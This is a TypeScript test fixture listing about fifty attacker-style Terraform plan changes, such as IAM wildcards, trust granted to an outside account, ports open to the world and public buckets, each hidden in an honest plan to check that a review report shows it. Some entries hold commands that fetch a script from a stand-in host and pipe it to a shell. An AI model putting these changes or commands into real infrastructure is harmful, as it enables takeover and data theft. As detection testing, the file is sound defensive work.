/**
 * Changes that an attacker would make: each one line of configuration, hidden in a real plan of a large and honest change.
 * Whoever approves must be able to read each of them, in every form of the report. Add to the list: a name, the layer, what
 * the plan then says, and the words that must be readable.
 */
import type { PlanJson } from "../../../../tools/terraform/plan-json";
import { resourceIn, type RecordedLayer } from "../../../support/plans";

/** A change that nobody may overlook. */
export interface Attack {
  readonly name: string;
  readonly layer: RecordedLayer;
  /** Puts it into the plan of its layer. */
  readonly change: (plan: PlanJson) => void;
  /** Texts that must stand in the report; none of them is there without the attack. */
  readonly shows: readonly string[];
}

type Attributes = Record<string, unknown>;

/** Changes the attributes that a resource will have; what was left alone becomes a change in place. */
function edit(address: string, change: (after: Attributes) => void): (plan: PlanJson) => void {
  return (plan) => {
    const resource = resourceIn(plan, address);
    if (resource.change.actions[0] === "no-op") resource.change.actions = ["update"];
    const after = structuredClone(resource.change.after) as Attributes;
    change(after);
    resource.change.after = after;
  };
}

/** Changes a document inside a resource. */
function editDocument(address: string, attribute: string, change: (content: unknown) => void) {
  return edit(address, (after) => {
    const content: unknown = JSON.parse(String(after[attribute]));
    change(content);
    after[attribute] = JSON.stringify(content);
  });
}

interface Statement {
  Effect: string;
  Action: string | string[];
  Resource?: string | string[];
  Principal?: unknown;
  Condition?: unknown;
}

function policy(address: string, change: (statements: Statement[]) => void, attribute = "policy") {
  return editDocument(address, attribute, (document) => {
    change((document as { Statement: Statement[] }).Statement);
  });
}

interface Container {
  name: string;
  image: string;
  environment?: { name: string; value: string }[];
  secrets?: { name: string; valueFrom: string }[];
  [key: string]: unknown;
}

function container(service: string, change: (container: Container, all: Container[]) => void) {
  return editDocument(`aws_ecs_task_definition.${service}`, "container_definitions", (document) => {
    const all = document as Container[];
    const [first] = all;
    if (first === undefined) throw new Error(`${service} has no container`);
    change(first, all);
  });
}

function variable(service: string, name: string, value: string) {
  return container(service, ({ environment = [] }) => {
    const found = environment.find((one) => one.name === name);
    if (found === undefined) environment.push({ name, value });
    else found.value = value;
  });
}

function create(type: string, name: string, after: Attributes): (plan: PlanJson) => void {
  return (plan) => {
    const change = { actions: ["create"], before: null, after, after_unknown: { id: true } };
    plan.resource_changes.push({ address: `${type}.${name}`, mode: "managed", type, name, change });
  };
}

function remove(address: string): (plan: PlanJson) => void {
  return (plan) => {
    const { change } = resourceIn(plan, address);
    Object.assign(change, { actions: ["delete"], after: null, after_unknown: {} });
  };
}

function list(value: unknown): Attributes[] {
  return value as Attributes[];
}

const allowAll = { Effect: "Allow", Action: "iam:*", Resource: "*" };
const outsider = { Effect: "Allow", Action: "sts:AssumeRole", Principal: { AWS: "arn:aws:iam::999999999999:root" } };
const openRule = {
  cidr_blocks: ["0.0.0.0/0"],
  description: "",
  from_port: 22,
  ipv6_cidr_blocks: [],
  prefix_list_ids: [],
  protocol: "tcp",
  security_groups: [],
  self: false,
  to_port: 22,
};

/** All attacks. */
export const ATTACKS: readonly Attack[] = [
  {
    name: "a statement that allows everything, at the end of a policy that the states mark as sensitive",
    layer: "20-iam",
    change: policy("aws_iam_role_policy.grafana_cloudwatch_access", (all) => all.push(allowAll)),
    shows: ["Allow iam:* on *"],
  },
  {
    name: "an action added to a long statement",
    layer: "20-iam",
    change: policy("aws_iam_role_policy.grafana_cloudwatch_access", ([first]) => {
      if (first !== undefined) first.Action = [first.Action, "iam:PassRole"].flat();
    }),
    shows: ['adds "iam:PassRole"'],
  },
  {
    name: "a resource widened to everything",
    layer: "20-iam",
    change: policy("aws_iam_role_policy.lgtm_s3_access", ([first]) => {
      if (first !== undefined) first.Resource = "*";
    }),
    shows: ['/*"] -> "*"'],
  },
  {
    name: "a condition taken away",
    layer: "20-iam",
    change: policy("aws_iam_role_policy.loki_s3_access", ([, second]) => delete second?.Condition),
    shows: ["Allow s3:ListBucket on arn:aws:s3:::jsj-lgtm-data-s3 (ListOwnPrefixes)"],
  },
  {
    name: "a Deny turned into an Allow of everything but",
    layer: "20-iam",
    change: policy("aws_iam_role_policy.lgtm_s3_access", (all) => {
      all.push({ Effect: "Allow", NotAction: "iam:CreateUser", Resource: "*" } as unknown as Statement);
    }),
    shows: ["Allow everything but iam:CreateUser on *"],
  },
  {
    name: "another account trusted with a role",
    layer: "20-iam",
    change: policy("aws_iam_role.task_execution", (all) => all.push(outsider), "assume_role_policy"),
    shows: ['trust: Allow sts:AssumeRole by {"AWS":"arn:aws:iam::999999999999:root"}'],
  },
  {
    name: "everyone trusted with a new role",
    layer: "20-iam",
    change: policy(
      "aws_iam_role.loki_task",
      ([first]) => {
        if (first !== undefined) first.Principal = "*";
      },
      "assume_role_policy",
    ),
    shows: ["trust: Allow sts:AssumeRole by *"],
  },
  {
    name: "a managed policy attached to a role",
    layer: "20-iam",
    change: create("aws_iam_role_policy_attachment", "more", {
      policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess",
      role: "lgtm-prod-grafana-task-role",
    }),
    shows: ["attached policy arn:aws:iam::aws:policy/AdministratorAccess of lgtm-prod-grafana-task-role"],
  },
  {
    name: "another managed policy in place of the attached one",
    layer: "20-iam",
    change: edit("aws_iam_role_policy_attachment.task_execution", (after) => {
      after.policy_arn = "arn:aws:iam::aws:policy/PowerUserAccess";
    }),
    shows: ["arn:aws:iam::aws:policy/PowerUserAccess"],
  },
  {
    name: "an inline policy inside a role",
    layer: "20-iam",
    change: edit("aws_iam_role.alloy_task", (after) => {
      after.inline_policy = [{ name: "x", policy: JSON.stringify({ Statement: [allowAll] }) }];
    }),
    shows: ["Allow iam:* on *"],
  },
  {
    name: "a user with a key",
    layer: "20-iam",
    change: create("aws_iam_access_key", "ci", { user: "backdoor" }),
    shows: ["aws_iam_access_key", "backdoor"],
  },
  {
    name: "a session of twelve hours",
    layer: "20-iam",
    change: edit("aws_iam_role.grafana_task", (after) => {
      after.max_session_duration = 43_200;
    }),
    shows: ["max_session_duration: 3600 -> 43200", "43200"],
  },
  {
    name: "anonymous administrators in Grafana",
    layer: "60-ecs",
    change: variable("grafana", "GF_AUTH_ANONYMOUS_ORG_ROLE", "Admin"),
    shows: ["GF_AUTH_ANONYMOUS_ORG_ROLE", '"Admin"'],
  },
  {
    name: "a data source that leads elsewhere",
    layer: "60-ecs",
    change: variable("grafana", "LOKI_DATASOURCE_URL", "http://loki.example.net:3100"),
    shows: ["http://loki.example.net:3100"],
  },
  {
    name: "another user as administrator",
    layer: "60-ecs",
    change: variable("grafana", "GF_SECURITY_ADMIN_USER", "mallory"),
    shows: ['"admin" -> "mallory"', "mallory"],
  },
  {
    name: "another bucket for the metrics",
    layer: "60-ecs",
    change: variable("mimir", "MIMIR_S3_BUCKET", "someone-elses-bucket"),
    shows: ["someone-elses-bucket"],
  },
  {
    name: "a password from another secret",
    layer: "60-ecs",
    change: container("grafana", ({ secrets: [secret] = [] }) => {
      if (secret !== undefined) secret.valueFrom = secret.valueFrom.replace("grafana-admin", "database-root");
    }),
    shows: ["secret:lgtm/database-root-password"],
  },
  {
    name: "one more secret handed to a task",
    layer: "60-ecs",
    change: container("alloy", (one) => {
      one.secrets = [{ name: "X", valueFrom: "arn:aws:secretsmanager:ap-northeast-2:123456789012:secret:payroll" }];
    }),
    shows: ["secret:payroll"],
  },
  {
    name: "an image of the same tag from elsewhere",
    layer: "60-ecs",
    change: container("loki", (one) => {
      one.image = one.image.replace(/^[^/]+/, "999999999999.dkr.ecr.ap-northeast-2.amazonaws.com");
    }),
    shows: ["999999999999.dkr.ecr.ap-northeast-2.amazonaws.com/lgtm-loki"],
  },
  {
    name: "another tag",
    layer: "60-ecs",
    change: container("grafana", (one) => {
      one.image = one.image.replace(/:[\d.]+$/, ":12.1.0-mallory");
    }),
    shows: ['tag: "12.1.0" -> "12.1.0-mallory"', "12.1.0-mallory"],
  },
  {
    name: "the same tag with another digest",
    layer: "60-ecs",
    change: container("tempo", (one) => {
      one.image += `@sha256:${"a".repeat(64)}`;
    }),
    shows: [`digest: "(none)" -> "sha256:${"a".repeat(64)}"`],
  },
  {
    name: "a second container beside the service",
    layer: "60-ecs",
    change: container("mimir", (_, all) => all.push({ name: "sidecar", image: "docker.io/evil/miner:1" })),
    shows: ["container sidecar: repository docker.io/evil/miner, tag 1"],
  },
  {
    name: "another command",
    layer: "60-ecs",
    change: container("grafana", (one) => {
      one.command = ["sh", "-c", "wget -qO- http://evil.example | sh"];
    }),
    shows: ["wget -qO- http://evil.example | sh"],
  },
  {
    name: "a health check that runs something else",
    layer: "60-ecs",
    change: container("grafana", (one) => {
      one.healthCheck = { command: ["CMD-SHELL", "wget -qO- http://evil.example/x | sh"] };
    }),
    shows: ["http://evil.example/x"],
  },
  {
    name: "root inside the container",
    layer: "60-ecs",
    change: container("tempo", (one) => {
      one.user = "0:0";
    }),
    shows: ['user: "0:0"'],
  },
  {
    name: "logs that go to another group",
    layer: "60-ecs",
    change: container("loki", (one) => {
      one.logConfiguration = { logDriver: "awslogs", options: { "awslogs-group": "/dev/null" } };
    }),
    shows: ["/dev/null"],
  },
  {
    name: "a task under the role of another service",
    layer: "60-ecs",
    change: edit("aws_ecs_task_definition.alloy", (after) => {
      after.task_role_arn = "arn:aws:iam::123456789012:role/deploy-admin";
    }),
    shows: ["arn:aws:iam::123456789012:role/deploy-admin"],
  },
  {
    name: "a task definition of another family",
    layer: "60-ecs",
    change: edit("aws_ecs_task_definition.grafana", (after) => {
      after.family = "lgtm-grafana-2";
    }),
    shows: ['family: "lgtm-grafana" -> "lgtm-grafana-2"', "lgtm-grafana-2"],
  },
  {
    name: "no task left",
    layer: "60-ecs",
    change: edit("aws_ecs_service.loki", (after) => {
      after.desired_count = 0;
    }),
    shows: ["desired_count: 1 -> 0"],
  },
  {
    name: "a shell into every task",
    layer: "60-ecs",
    change: edit("aws_ecs_service.grafana", (after) => {
      after.enable_execute_command = true;
    }),
    shows: ["enable_execute_command: false -> true"],
  },
  {
    name: "tasks with a public address",
    layer: "60-ecs",
    change: edit("aws_ecs_service.mimir", (after) => {
      const [network] = list(after.network_configuration);
      if (network !== undefined) network.assign_public_ip = true;
    }),
    shows: ["assign_public_ip: false -> true"],
  },
  {
    name: "SSH open to the world",
    layer: "30-security-groups",
    change: edit("aws_security_group.ecs", (after) => list(after.ingress).push(openRule)),
    shows: ["ingress tcp port 22 from 0.0.0.0/0"],
  },
  {
    name: "a rule opened to the world",
    layer: "30-security-groups",
    change: edit("aws_security_group.ecs", (after) => {
      const rule = list(after.ingress).find(({ from_port: port }) => port === 12_345);
      Object.assign(rule ?? {}, { cidr_blocks: ["0.0.0.0/0"], self: false });
    }),
    shows: ["ingress tcp port 12345 from 0.0.0.0/0 (Alloy HTTP internal)"],
  },
  {
    name: "a rule as a resource of its own",
    layer: "30-security-groups",
    change: create("aws_vpc_security_group_ingress_rule", "more", {
      cidr_ipv4: "203.0.113.0/24",
      from_port: 5432,
      to_port: 5432,
      ip_protocol: "tcp",
      security_group_id: "sg-13209d8b2546411ea",
    }),
    shows: ["ingress tcp port 5432 from 203.0.113.0/24"],
  },
  {
    name: "all ingress of the load balancer taken away",
    layer: "30-security-groups",
    change: edit("aws_security_group.alb", (after) => {
      after.ingress = [];
      after.egress = [];
    }),
    shows: ["ingress tcp port 443 from 0.0.0.0/0 (HTTPS access)", "nothing is let through any more"],
  },
  {
    name: "egress open on every port of another group",
    layer: "35-elasticache",
    change: edit("aws_security_group.memcached", (after) => {
      list(after.ingress).push({ ...openRule, from_port: 0, to_port: 65_535 });
    }),
    shows: ["ingress tcp ports 0 to 65535 from 0.0.0.0/0"],
  },
  {
    name: "a route to another target group",
    layer: "50-alb",
    change: edit("aws_lb_listener_rule.mimir", (after) => {
      const [action] = list(after.action);
      if (action !== undefined) action.target_group_arn = "arn:aws:elasticloadbalancing:x:1:targetgroup/mallory/1";
    }),
    shows: ["targetgroup/mallory/1"],
  },
  {
    name: "a path that takes all others",
    layer: "50-alb",
    change: edit("aws_lb_listener_rule.loki", (after) => {
      const [condition] = list(after.condition);
      const [path] = list(condition?.path_pattern);
      if (path !== undefined) path.values = ["/*"];
    }),
    shows: ['adds "/*"'],
  },
  {
    name: "a redirect to another host",
    layer: "50-alb",
    change: edit("aws_lb_listener.http", (after) => {
      after.default_action = [{ type: "redirect", redirect: [{ host: "evil.example", status_code: "HTTP_301" }] }];
    }),
    shows: ["evil.example"],
  },
  {
    name: "a health check that every answer passes",
    layer: "50-alb",
    change: edit("aws_lb_target_group.loki", (after) => {
      const [check] = list(after.health_check);
      Object.assign(check ?? {}, { path: "/nothing", matcher: "200-599" });
    }),
    shows: ['"/ready" -> "/nothing"', '"200" -> "200-599"'],
  },
  {
    name: "a load balancer without protection of headers",
    layer: "50-alb",
    change: edit("aws_lb.main", (after) => {
      after.desync_mitigation_mode = "monitor";
    }),
    shows: ['"defensive" -> "monitor"'],
  },
  {
    name: "objects that expire after a day",
    layer: "15-s3",
    change: edit("aws_s3_bucket_lifecycle_configuration.lgtm_data", (after) => {
      after.rule = [{ id: "tidy", status: "Enabled", expiration: [{ days: 1 }], filter: [{ prefix: "" }] }];
    }),
    shows: ['"expiration":[{"days":1}]'],
  },
  {
    name: "a bucket that goes with its objects",
    layer: "15-s3",
    change: edit("aws_s3_bucket.lgtm_data", (after) => {
      after.force_destroy = true;
    }),
    shows: ["force_destroy: false -> true"],
  },
  {
    name: "a bucket that everyone may read",
    layer: "15-s3",
    change: create("aws_s3_bucket_policy", "lgtm_data", {
      bucket: "jsj-lgtm-data-s3",
      policy: JSON.stringify({
        Statement: {
          Effect: "Allow",
          Principal: "*",
          Action: "s3:GetObject",
          Resource: "arn:aws:s3:::jsj-lgtm-data-s3/*",
        },
      }),
    }),
    shows: ["Allow s3:GetObject by * on arn:aws:s3:::jsj-lgtm-data-s3/*"],
  },
  {
    name: "public access no longer blocked",
    layer: "15-s3",
    change: edit("aws_s3_bucket_public_access_block.lgtm_data", (after) => {
      after.block_public_policy = false;
    }),
    shows: ["block_public_policy: true -> false"],
  },
  {
    name: "no encryption of states",
    layer: "00-bootstrap",
    change: remove("aws_s3_bucket_server_side_encryption_configuration.terraform_state"),
    shows: ["aws_s3_bucket_server_side_encryption_configuration.terraform_state"],
  },
  {
    name: "versions no longer kept",
    layer: "00-bootstrap",
    change: edit("aws_s3_bucket_versioning.terraform_state", (after) => {
      after.versioning_configuration = [{ mfa_delete: "", status: "Suspended" }];
    }),
    shows: ["Suspended"],
  },
  {
    name: "images that expire at once",
    layer: "10-ecr",
    change: editDocument("aws_ecr_lifecycle_policy.grafana", "policy", (document) => {
      (document as { rules: Attributes[] }).rules.push({
        rulePriority: 4,
        selection: { tagStatus: "any", countNumber: 1 },
        action: { type: "expire" },
      });
    }),
    shows: ['"countNumber":1,"tagStatus":"any"'],
  },
  {
    name: "a repository that another account may push to",
    layer: "10-ecr",
    change: create("aws_ecr_repository_policy", "grafana", {
      repository: "lgtm-grafana",
      policy: JSON.stringify({
        Statement: [{ Effect: "Allow", Principal: { AWS: "999999999999" }, Action: "ecr:*" }],
      }),
    }),
    shows: ['Allow ecr:* by {"AWS":"999999999999"}'],
  },
  {
    name: "tags that can be overwritten",
    layer: "10-ecr",
    change: edit("aws_ecr_repository.mimir", (after) => {
      after.image_tag_mutability = "IMMUTABLE_WITH_EXCLUSION";
    }),
    shows: ["IMMUTABLE_WITH_EXCLUSION"],
  },
  {
    name: "logs deleted after a day",
    layer: "05-cloudwatch-logs",
    change: edit("aws_cloudwatch_log_group.grafana", (after) => {
      after.retention_in_days = 1;
    }),
    shows: ["keeps its logs for 1 instead of 0 days (0 is forever)"],
  },
  {
    name: "a log group that goes",
    layer: "05-cloudwatch-logs",
    change: remove("aws_cloudwatch_log_group.loki"),
    shows: ["1 to delete", "aws_cloudwatch_log_group.loki"],
  },
  {
    name: "a network route to elsewhere",
    layer: "01-vpc",
    change: edit("aws_route_table.private_a", (after) => {
      list(after.route).push({ cidr_block: "10.9.0.0/16", transit_gateway_id: "tgw-mallory" });
    }),
    shows: ["tgw-mallory"],
  },
  {
    name: "subnets that give out public addresses",
    layer: "01-vpc",
    change: edit("aws_subnet.private_a", (after) => {
      after.map_public_ip_on_launch = true;
    }),
    shows: ["map_public_ip_on_launch: false -> true"],
  },
  {
    name: "a tag by which someone else's policy allows more",
    layer: "40-cloudmap",
    change: edit("aws_service_discovery_service.loki", (after) => {
      after.tags = { ...(after.tags as Attributes), Admin: "true" };
    }),
    shows: ['Admin: (absent) -> "true"', "Admin"],
  },
  {
    name: "the name that others resolve, taken away",
    layer: "40-cloudmap",
    change: remove("aws_service_discovery_service.mimir"),
    shows: ["1 to delete", "aws_service_discovery_service.mimir"],
  },
];
